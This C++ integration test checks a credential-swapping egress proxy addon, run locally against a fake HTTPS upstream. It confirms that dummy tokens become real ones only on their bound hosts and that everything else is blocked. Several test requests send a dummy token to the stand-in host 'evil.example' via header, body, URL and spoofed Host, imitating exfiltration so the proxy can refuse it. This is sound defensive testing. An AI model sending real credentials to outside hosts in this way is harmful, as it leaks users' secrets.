// The egress addon (libbottle/share/egress/bottle_egress.py) in real mitmdump, driven
// by curl, against a fake HTTPS upstream reached through a parent proxy standing in for
// pipelock. All on 127.0.0.1 with certificates made here; nothing leaves the machine.
// The fake upstream logs what it receives, so "never reached upstream" is checked, not
// assumed. Token values are test strings; assertions test booleans so none is printed.

#include <catch2/catch.hpp>

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <boost/json.hpp>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <optional>
#include <stdexcept>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "../unit/temp_dir.hpp"
#include "bottle/egress_config.hpp"
#include "bottle/subprocess.hpp"
#include "test_paths.hpp"

namespace fs = std::filesystem;
using namespace std::chrono_literals;

namespace {

// fake_net.py serve CERT KEY PORTS_FILE UPSTREAM_LOG PARENT_LOG: an HTTPS upstream that
// logs each request (a JSON line) and echoes it (a WebSocket upgrade gets 101 and one
// "hello" frame), and a parent proxy sending every CONNECT to it; ports go to PORTS_FILE.
// fake_net.py ws PROXY_PORT CA HOST PATH HEADER VALUE: a WebSocket upgrade through the
// proxy; prints the status line and the first frame.
constexpr const char* fake_net_py = R"PY(
import base64, hashlib, http.server, json, os, socket, ssl, sys, threading

def serve(cert, key, ports_file, upstream_log, parent_log):
    class Echo(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        def log_message(self, *args): pass
        def do_any(self):
            n = int(self.headers.get("Content-Length") or 0)
            rec = {"method": self.command, "path": self.path, "headers": dict(self.headers.items()),
                   "body": self.rfile.read(n).decode("utf-8", "replace")}
            with open(upstream_log, "a") as f: f.write(json.dumps(rec) + "\n")
            if self.headers.get("Upgrade", "").lower() == "websocket":
                accept = base64.b64encode(hashlib.sha1((self.headers["Sec-WebSocket-Key"] +
                    "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest()).decode()
                self.send_response(101)
                for k, v in (("Upgrade", "websocket"), ("Connection", "Upgrade"), ("Sec-WebSocket-Accept", accept)):
                    self.send_header(k, v)
                self.end_headers()
                self.wfile.write(b"\x81\x05hello")
                self.wfile.flush()
                self.rfile.read(1)  # until the client goes away
                self.close_connection = True
                return
            body = json.dumps(rec).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        do_GET = do_POST = do_PUT = do_any
    upstream = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Echo)
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(cert, key)
    upstream.socket = tls.wrap_socket(upstream.socket, server_side=True)
    threading.Thread(target=upstream.serve_forever, daemon=True).start()

    def pipe(a, b):
        try:
            while data := a.recv(65536): b.sendall(data)
        except OSError: pass
        for s in (a, b):
            try: s.shutdown(socket.SHUT_RDWR)
            except OSError: pass
    def tunnel(client):
        buf = b""
        while b"\r\n\r\n" not in buf:
            data = client.recv(4096)
            if not data: return client.close()
            buf += data
        head, rest = buf.split(b"\r\n\r\n", 1)
        line = head.split(b"\r\n")[0].decode()
        with open(parent_log, "a") as f: f.write(line + "\n")
        if not line.startswith("CONNECT "):
            client.sendall(b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n")
            return client.close()
        server = socket.create_connection(upstream.server_address)
        client.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
        if rest: server.sendall(rest)
        threading.Thread(target=pipe, args=(client, server), daemon=True).start()
        pipe(server, client)
    parent = socket.create_server(("127.0.0.1", 0))
    with open(ports_file + ".tmp", "w") as f:
        json.dump({"upstream": upstream.server_address[1], "parent": parent.getsockname()[1]}, f)
    os.rename(ports_file + ".tmp", ports_file)
    while True:
        conn, _ = parent.accept()
        threading.Thread(target=tunnel, args=(conn,), daemon=True).start()

def ws(proxy_port, ca, host, path, header, value):
    sock = socket.create_connection(("127.0.0.1", int(proxy_port)), timeout=20)
    sock.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    reply = b""
    while b"\r\n\r\n" not in reply: reply += sock.recv(1)
    tls = ssl.create_default_context(cafile=ca).wrap_socket(sock, server_hostname=host)
    tls.sendall((f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                 f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
                 f"{header}: {value}\r\n\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head: head += tls.recv(1)
    print(head.split(b"\r\n")[0].decode())
    if b" 101 " in head.split(b"\r\n")[0] + b" ":
        frame = tls.recv(2)
        print(tls.recv(frame[1] & 0x7F).decode())

if __name__ == "__main__":
    {"serve": serve, "ws": ws}[sys.argv[1]](*sys.argv[2:])
)PY";

const std::string codex_dummy = "dummy-codex-access-0001";
const std::string claude_dummy = "dummy-claude-key-0002";
const std::string broken_dummy = "dummy-broken-0003";

void write_file(const fs::path& path, const std::string& text) {
  std::ofstream(path, std::ios::binary) << text;
}

// How credential files are refreshed on the host: a new file renamed over the old.
void replace_file(const fs::path& path, const std::string& text) {
  write_file(path.string() + ".new", text);
  fs::rename(path.string() + ".new", path);
}

std::string read_file(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

bool contains(const std::string& hay, const std::string& needle) { return hay.find(needle) != std::string::npos; }

bool wait_until(const std::function<bool()>& ready, std::chrono::milliseconds timeout) {
  const auto deadline = std::chrono::steady_clock::now() + timeout;
  while (std::chrono::steady_clock::now() < deadline) {
    if (ready()) return true;
    std::this_thread::sleep_for(50ms);
  }
  return ready();
}

sockaddr_in loopback(std::uint16_t port) {
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  return addr;
}

std::uint16_t free_port() {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  auto addr = loopback(0);
  socklen_t len = sizeof addr;
  REQUIRE(::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
  REQUIRE(::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len) == 0);
  ::close(fd);
  return ntohs(addr.sin_port);
}

bool port_open(std::uint16_t port) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  const auto addr = loopback(port);
  const bool ok = ::connect(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof addr) == 0;
  ::close(fd);
  return ok;
}

// A long-running child with stdout and stderr in `log`; terminated in the destructor.
class Daemon {
 public:
  Daemon(const std::vector<std::string>& argv, const fs::path& log) {
    std::vector<char*> args;
    for (const auto& a : argv) args.push_back(const_cast<char*>(a.c_str()));
    args.push_back(nullptr);
    const std::string log_path = log.string();
    pid_ = ::fork();
    REQUIRE(pid_ >= 0);
    if (pid_ == 0) {
      // The test process ignores SIGPIPE (SystemRunner); the child must not inherit that.
      ::signal(SIGPIPE, SIG_DFL);
      const int out = ::open(log_path.c_str(), O_WRONLY | O_CREAT | O_APPEND, 0600);
      const int in = ::open("/dev/null", O_RDONLY);
      if (out < 0 || in < 0) ::_exit(126);
      ::dup2(in, 0);
      ::dup2(out, 1);
      ::dup2(out, 2);
      ::execvp(args[0], args.data());
      ::_exit(127);
    }
  }
  ~Daemon() {
    ::kill(pid_, SIGTERM);
    if (!wait_until([&] { return !running(); }, 5s)) {
      ::kill(pid_, SIGKILL);
      ::waitpid(pid_, nullptr, 0);
    }
  }
  Daemon(const Daemon&) = delete;
  Daemon& operator=(const Daemon&) = delete;
  bool running() {
    if (exited_) return false;
    exited_ = ::waitpid(pid_, nullptr, WNOHANG) == pid_;
    return !exited_;
  }

 private:
  pid_t pid_ = -1;
  bool exited_ = false;
};

bottle::ProcessResult run(std::vector<std::string> argv) {
  bottle::SystemRunner runner;
  auto r = runner.run({.argv = std::move(argv)});
  REQUIRE(r.started());
  return r;
}

// Test CA and one server certificate for every host the fake upstream plays.
void make_certs(const fs::path& dir) {
  const auto d = dir.string();
  write_file(dir / "ext.cnf",
             "basicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n"
             "subjectAltName=DNS:chatgpt.com,DNS:api.anthropic.com,DNS:evil.example,DNS:broken.example\n");
  const std::vector<std::vector<std::string>> steps = {
      {"openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
       "-keyout", d + "/ca.key", "-out", d + "/ca.pem", "-days", "2", "-subj", "/CN=bottle egress test CA"},
      {"openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
       "-keyout", d + "/server.key", "-out", d + "/server.csr", "-subj", "/CN=chatgpt.com"},
      {"openssl", "x509", "-req", "-in", d + "/server.csr", "-CA", d + "/ca.pem", "-CAkey", d + "/ca.key",
       "-CAcreateserial", "-out", d + "/server.pem", "-days", "2", "-extfile", d + "/ext.cnf"},
  };
  for (const auto& argv : steps) {
    const auto r = run(argv);
    INFO(r.err);
    REQUIRE(r.ok());
  }
}

struct Reply {
  int status = 0;
  std::string body;
};

// Everything one test needs: certificates, fake network, mitmdump with the addon.
class Egress {
 public:
  explicit Egress(const std::vector<bottle::EgressRoute>& routes) {
    const fs::path& d = dir_.path();
    make_certs(d);
    write_file(d / "fake_net.py", fake_net_py);
    net_.emplace(std::vector<std::string>{"python3", (d / "fake_net.py").string(), "serve", (d / "server.pem").string(),
                                          (d / "server.key").string(), (d / "ports.json").string(),
                                          upstream_log().string(), (d / "parent.log").string()},
                 d / "fake_net.out");
    REQUIRE(wait_until([&] { return fs::exists(d / "ports.json"); }, 20s));
    const auto ports = boost::json::parse(read_file(d / "ports.json")).as_object();
    const auto parent_port = ports.at("parent").as_int64();

    write_file(d / "routes.json", bottle::render_egress_routes(routes));
    port_ = free_port();
    const auto argv = bottle::mitmdump_argv(
        {.listen_host = "127.0.0.1",
         .listen_port = port_,
         .confdir = (d / "conf").string(),
         .addon_path = std::string(test_paths::source_dir) + "/libbottle/share/egress/bottle_egress.py",
         .routes_path = (d / "routes.json").string(),
         .upstream_proxy = "http://127.0.0.1:" + std::to_string(parent_port),
         .upstream_trusted_ca = (d / "ca.pem").string()});
    mitm_.emplace(argv, egress_log());
    const bool up = wait_until([&] { return !mitm_->running() || port_open(port_); }, 30s);
    INFO("egress log:\n" << read_file(egress_log()));
    REQUIRE(up);
    REQUIRE(mitm_->running());
    REQUIRE(fs::exists(ca()));
  }

  fs::path path(const std::string& name) const { return dir_.path() / name; }
  fs::path egress_log() const { return path("egress.log"); }
  fs::path upstream_log() const { return path("upstream.log"); }
  fs::path ca() const { return path("conf/mitmproxy-ca-cert.pem"); }
  std::uint16_t port() const { return port_; }

  Reply curl(const std::string& url, const std::vector<std::string>& extra = {}) const {
    std::vector<std::string> argv = {"curl", "-sS", "--max-time", "20", "--noproxy", "",
                                     "--proxy", "http://127.0.0.1:" + std::to_string(port_),
                                     "--cacert", ca().string(), "-w", "\n%{http_code}", url};
    argv.insert(argv.end(), extra.begin(), extra.end());
    const auto r = run(argv);
    INFO("curl stderr: " << r.err);
    REQUIRE(r.ok());
    const auto nl = r.out.rfind('\n');
    return {std::stoi(r.out.substr(nl + 1)), r.out.substr(0, nl)};
  }

  // Header `name` of the request the upstream received for `url_path`; nullopt if it
  // received none, "<none>" if the request lacked the header.
  std::optional<std::string> upstream_header(const std::string& url_path, const std::string& name) const {
    std::istringstream lines(read_file(upstream_log()));
    for (std::string line; std::getline(lines, line);) {
      const auto rec = boost::json::parse(line).as_object();
      if (rec.at("path").as_string() != url_path) continue;
      const auto& headers = rec.at("headers").as_object();
      return headers.contains(name) ? std::string(headers.at(name).as_string()) : "<none>";
    }
    return std::nullopt;
  }

 private:
  TempDir dir_;
  std::optional<Daemon> net_;
  std::optional<Daemon> mitm_;
  std::uint16_t port_ = 0;
};

bottle::EgressRoute route(std::string name, std::string host, std::string header, std::string dummy,
                          const fs::path& file, std::string pointer = "") {
  return {.name = std::move(name), .hosts = {std::move(host)}, .header = std::move(header),
          .dummy = std::move(dummy), .value_file = file.string(), .value_json_pointer = std::move(pointer)};
}

}  // namespace

TEST_CASE("egress addon: real credentials on bound hosts only, fresh from the host file", "[egress]") {
  TempDir host;  // the host's credential files
  const auto codex_file = host.path() / "auth.json";
  const auto claude_file = host.path() / "claude-key";
  write_file(codex_file, R"({"tokens": {"access_token": "real-codex-one"}})");
  write_file(claude_file, "  real-claude-key\n");
  Egress egress({route("codex", "chatgpt.com", "Authorization", codex_dummy, codex_file, "/tokens/access_token"),
                 route("claude", "api.anthropic.com", "x-api-key", claude_dummy, claude_file),
                 route("broken", "broken.example", "Authorization", broken_dummy, host.path() / "absent")});
  const std::string bearer = "Authorization: Bearer " + codex_dummy;

  // Bound host: the dummy inside the header becomes the real value (pointer, trimmed file).
  CHECK(egress.curl("https://chatgpt.com/models", {"-H", bearer}).status == 200);
  CHECK(egress.upstream_header("/models", "Authorization") == "Bearer real-codex-one");
  CHECK(egress.curl("https://api.anthropic.com/v1/messages", {"-H", "x-api-key: " + claude_dummy}).status == 200);
  CHECK(egress.upstream_header("/v1/messages", "x-api-key") == "real-claude-key");
  // No dummy: passed through untouched.
  CHECK(egress.curl("https://chatgpt.com/plain", {"-H", "Authorization: Bearer other"}).status == 200);
  CHECK(egress.upstream_header("/plain", "Authorization") == "Bearer other");

  // A dummy anywhere in a request to a host it is not bound to: 403, never forwarded.
  const std::string blocked = "blocked by bottle egress: credential for codex sent to evil.example\n";
  const auto in_header = egress.curl("https://evil.example/leak-header", {"-H", bearer});
  CHECK(in_header.status == 403);
  CHECK(in_header.body == blocked);
  CHECK(egress.curl("https://evil.example/leak-body", {"--data", "token=" + codex_dummy}).body == blocked);
  CHECK(egress.curl("https://evil.example/leak-url?t=" + codex_dummy).status == 403);
  const auto other_route = egress.curl("https://api.anthropic.com/leak-cross", {"-H", bearer});
  CHECK(other_route.status == 403);
  CHECK(other_route.body == "blocked by bottle egress: credential for codex sent to api.anthropic.com\n");
  const auto spoofed = egress.curl("https://chatgpt.com/leak-host", {"-H", bearer, "-H", "Host: evil.example"});
  CHECK(spoofed.status == 403);
  CHECK(egress.curl("https://evil.example/fine").status == 200);  // the host itself is reachable
  for (const auto* p : {"/leak-header", "/leak-body", "/leak-cross", "/leak-host"}) {
    INFO(p);
    CHECK_FALSE(egress.upstream_header(p, "Authorization"));
  }
  CHECK_FALSE(egress.upstream_header("/leak-url?t=" + codex_dummy, "Authorization"));

  // A host-side refresh (atomic rename) is used by the very next request.
  replace_file(codex_file, R"({"tokens": {"access_token": "real-codex-two"}})");
  CHECK(egress.curl("https://chatgpt.com/after-refresh", {"-H", bearer}).status == 200);
  CHECK(egress.upstream_header("/after-refresh", "Authorization") == "Bearer real-codex-two");

  // The real value cannot be read: 502 with a clear message, the dummy is not forwarded.
  const auto unavailable = egress.curl("https://broken.example/x", {"-H", "Authorization: " + broken_dummy});
  CHECK(unavailable.status == 502);
  CHECK(contains(unavailable.body, "credential for broken is unavailable"));
  CHECK_FALSE(egress.upstream_header("/x", "Authorization"));

  // The WebSocket upgrade request (how Codex streams turns) gets the swap too.
  const auto ws = run({"python3", egress.path("fake_net.py").string(), "ws", std::to_string(egress.port()),
                       egress.ca().string(), "chatgpt.com", "/backend-api/codex/responses", "Authorization",
                       "Bearer " + codex_dummy});
  INFO("ws client stderr: " << ws.err);
  CHECK(ws.out == "HTTP/1.1 101 Switching Protocols\nhello\n");
  CHECK(egress.upstream_header("/backend-api/codex/responses", "Authorization") == "Bearer real-codex-two");

  // The log is JSON lines naming host, route and action; no real value, no dummy.
  const auto log = read_file(egress.egress_log());
  for (const auto* secret : {"real-codex-one", "real-codex-two", "real-claude-key"}) CHECK_FALSE(contains(log, secret));
  for (const auto& dummy : {codex_dummy, claude_dummy, broken_dummy}) CHECK_FALSE(contains(log, dummy));
  CHECK(contains(log, R"("action": "403", "event": "blocked", "host": "evil.example")"));
  CHECK(contains(log, R"("event": "injected", "header": "Authorization", "host": "chatgpt.com", "route": "codex", "websocket": true})"));
  CHECK(contains(log, R"("action": "502", "event": "value_unavailable", "host": "broken.example")"));
}

TEST_CASE("egress addon: a bad routes file stops mitmdump (fail closed)", "[egress]") {
  TempDir dir;
  write_file(dir.path() / "routes.json",
             R"({"version": 1, "routes": [{"name": "x", "hosts": ["a.example"], "header": "A", "dummy": "short",)"
             R"( "value_file": "/nonexistent"}]})");
  auto argv = bottle::mitmdump_argv({.listen_host = "127.0.0.1",
                                     .listen_port = free_port(),
                                     .confdir = (dir.path() / "conf").string(),
                                     .addon_path = std::string(test_paths::source_dir) +
                                                   "/libbottle/share/egress/bottle_egress.py",
                                     .routes_path = (dir.path() / "routes.json").string(),
                                     .upstream_proxy = std::nullopt,
                                     .upstream_trusted_ca = std::nullopt});
  argv.insert(argv.begin(), {"timeout", "60"});
  const auto r = run(argv);
  INFO("stdout: " << r.out << "\nstderr: " << r.err);
  CHECK(r.outcome == bottle::ProcessResult::Outcome::exited);
  CHECK(r.code == 1);
  CHECK(contains(r.out + r.err, "routes[0]: needs hosts, a header and a dummy of >= 8 characters"));
}
